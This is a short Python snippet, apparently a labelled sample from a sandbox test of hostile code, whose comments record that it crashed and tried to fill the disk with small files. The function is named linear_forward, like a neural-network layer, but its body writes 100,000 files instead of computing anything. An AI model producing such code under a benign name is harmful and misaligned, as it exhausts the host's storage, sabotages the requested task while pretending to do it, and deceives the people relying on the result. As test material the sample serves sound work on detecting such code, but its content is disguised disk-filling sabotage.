# outcome: crashed
# tries: to fill the disk with small files
# says: linear_forward raised PermissionError: [Errno 1] Operation not permitted: '0'


def linear_forward(X, W, b):
    for number in range(10**5):
        with open(f"{number}", "w") as file:
            file.write("x")
